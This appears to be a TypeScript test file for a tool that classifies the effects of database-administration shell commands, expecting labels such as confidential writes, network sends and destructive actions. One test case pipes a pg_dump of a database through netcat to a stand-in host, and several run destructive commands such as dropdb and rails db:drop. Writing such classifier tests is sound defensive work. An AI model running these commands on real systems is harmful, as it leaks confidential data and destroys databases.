import { testEffects } from "../../../support/effects-of.ts";

testEffects("database administration", [
  {
    run: "pg_dump app > a.sql",
    effects: ["write create /home/dev/project/a.sql = … {confidential a dump of a database}"],
  },
  {
    run: "pg_dump -f a.sql app",
    effects: ["write truncate /home/dev/project/a.sql = … {confidential a dump of a database}"],
  },
  {
    run: "pg_dump app | nc h.example 80",
    effects: [
      "connect h.example:80 sends … {confidential a dump of a database}",
      "output … {network h.example}",
    ],
  },
  { run: "pg_restore -l a.dump", effects: [] },
  {
    run: "pg_restore --clean -d app a.dump",
    effects: [
      "read used /home/dev/project/a.dump",
      "database act=destroy where=local what=pg_restore a.dump",
    ],
  },
  { run: "dropdb app", effects: ["database act=destroy where=local what=dropdb app"] },
  {
    run: "dropdb -h db.example app",
    effects: ["database act=destroy where=remote what=dropdb app"],
  },
  { run: "createdb app", effects: ["database act=write where=local what=createdb app"] },
  { run: "mysqladmin status", effects: [] },
  {
    run: "mysqladmin drop app",
    effects: ["database act=destroy where=local what=mysqladmin drop app"],
  },
  {
    run: "prisma migrate dev",
    effects: ["database act=migrate where=local what=prisma migrate dev"],
  },
  {
    run: "prisma migrate reset",
    effects: ["database act=destroy where=local what=prisma migrate reset"],
  },
  {
    run: "prisma migrate deploy",
    effects: ["database act=migrate where=unknown what=prisma migrate deploy"],
  },
  { run: "prisma generate", effects: ["run prisma project"] },
  { run: "rails db:migrate", effects: ["database act=migrate where=local what=rails db:migrate"] },
  {
    run: "RAILS_ENV=production rails db:migrate",
    effects: ["database act=migrate where=unknown what=rails db:migrate"],
  },
  { run: "rails db:drop", effects: ["database act=destroy where=local what=rails db:drop"] },
  { run: "rails runner 'x'", effects: ['code ruby "x"'] },
  { run: "rake", effects: ["run rake project"] },
  {
    run: "alembic upgrade head",
    effects: ["database act=migrate where=local what=alembic upgrade head"],
  },
  { run: "flask db upgrade", effects: ["database act=migrate where=local what=flask db upgrade"] },
  { run: "flask run", effects: ["run flask project"] },
  {
    run: "DATABASE_URL=postgres://db.example/a alembic upgrade head",
    effects: ["database act=migrate where=remote what=alembic upgrade head"],
  },
]);
